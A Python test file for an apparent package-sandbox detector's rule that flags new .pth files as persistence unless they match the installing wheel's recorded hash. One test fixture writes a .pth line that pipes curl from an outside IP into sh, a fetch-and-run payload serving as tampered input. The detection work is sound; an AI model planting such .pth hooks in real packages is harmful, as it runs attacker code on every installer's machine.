"""A dependency wheel a round installs mid-run may ship a ``.pth`` (namespace packages,
coverage's subprocess hook). pip writes it during the import phase, where PS005 treats
any new ``.pth`` as persistence; the corpus called two top-300 projects malicious for
it. The wheel's own ``.pth`` is the dependency's when the bytes left behind are exactly
what the staged wheel's RECORD says; any other bytes under that name stay a finding."""

from __future__ import annotations

import base64
import hashlib
import secrets
from pathlib import Path

from sandbox.agent.protocol import HOME, VENV
from sandbox.fetch.archive import inspect_wheel, record_root_hooks
from sandbox.judge.rules import evaluate
from sandbox.models import (
    Event,
    EventKind,
    FsChange,
    Observation,
    Phase,
    PhaseResult,
    PhaseStatus,
    StagedHook,
)
from tests.unit.test_fetch_fixtures import make_wheel

SITE = f"{VENV}/lib/python3.11/site-packages"


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).decode().rstrip("=")


def test_record_root_hooks_reads_only_root_pth_with_a_hash() -> None:
    body = b"import sys; sys.path\n"
    record = (
        f"dep-1.0-nspkg.pth,sha256={_b64(body)},{len(body)}\n"
        f"dep/vendored/inner.pth,sha256={_b64(b'x')},1\n"
        "nohash.pth,,\n"
        f"dep/__init__.py,sha256={_b64(b'')},0\n"
        "dep-1.0.dist-info/RECORD,,\n"
    ).encode()
    assert record_root_hooks(record) == (("dep-1.0-nspkg.pth", hashlib.sha256(body).hexdigest()),)


def test_inspect_wheel_reports_root_hooks(tmp_path: Path) -> None:
    name = f"dep{secrets.token_hex(3)}"
    body = f"import {name}\n".encode()
    pth = f"a1_{name}.pth"
    record = f"{pth},sha256={_b64(body)},{len(body)}\n".encode()
    wheel = make_wheel(tmp_path, name, "1.0", files={pth: body, f"{name}-1.0.dist-info/RECORD": record})
    assert inspect_wheel(wheel).root_hooks == ((pth, hashlib.sha256(body).hexdigest()),)


def _obs(pth: str, left: bytes, hooks: tuple[StagedHook, ...]) -> Observation:
    """The round's pip (candidate-labelled: it ran after the candidate's code) writes
    *pth* in the import phase; the diff finds *left* there afterwards."""
    path = f"{SITE}/{pth}"
    write = Event(
        phase=Phase.IMPORT,
        seq=5,
        pid=77,
        time=5.0,
        syscall="openat",
        kind=EventKind.FILE_WRITE,
        path=path,
        argv=(f"{VENV}/bin/python", "-m", "pip", "install", "--no-index", "--find-links", "/stage/artifacts"),
    )
    change = FsChange(
        phase=Phase.IMPORT,
        path=path,
        change="created",
        size=len(left),
        sha256=hashlib.sha256(left).hexdigest(),
        head=left.decode(),
    )
    phases = tuple(
        PhaseResult(phase=p, status=PhaseStatus.OK, duration=1.0)
        for p in (Phase.INSTALL, Phase.STARTUP, Phase.IMPORT)
    )
    return Observation(
        events=(write,),
        processes=(),
        phases=phases,
        home=HOME,
        venv=VENV,
        fs_changes=(change,),
        round_hooks=hooks,
    )


def _ps005(obs: Observation) -> list[str]:
    return sorted(e.path or "" for f in evaluate(obs) if f.rule_id == "PS005" for e in f.evidence)


def test_a_round_wheels_own_pth_is_not_persistence() -> None:
    pth = f"{secrets.token_hex(3)}-1.0-py3.12-nspkg.pth"
    body = b"import sys, types, os;has_mfs = sys.version_info > (3, 5)\n"
    hooks = (StagedHook(name=pth, sha256=hashlib.sha256(body).hexdigest()),)
    assert _ps005(_obs(pth, body, hooks)) == []
    # without the round's record the same write is persistence (trace and diff)
    assert _ps005(_obs(pth, body, ())) == [f"{SITE}/{pth}", f"{SITE}/{pth}"]


def test_other_bytes_under_a_round_wheels_pth_name_stay_persistence() -> None:
    pth = f"a1_{secrets.token_hex(3)}.pth"
    shipped = b"import os\n"
    hooks = (StagedHook(name=pth, sha256=hashlib.sha256(shipped).hexdigest()),)
    swapped = b"import os; os.system('curl http://192.0.2.7/x | sh')\n"
    assert _ps005(_obs(pth, swapped, hooks)) == [f"{SITE}/{pth}", f"{SITE}/{pth}"]
    # the same bytes elsewhere than the top of site-packages are not the wheel's either
    other = f"{HOME}/.local/lib/python3.11/site-packages/{pth}"
    obs = _obs(pth, shipped, hooks)
    moved = obs.model_copy(
        update={
            "events": tuple(e.model_copy(update={"path": other}) for e in obs.events),
            "fs_changes": tuple(c.model_copy(update={"path": other}) for c in obs.fs_changes),
        }
    )
    assert _ps005(moved) == [other, other]
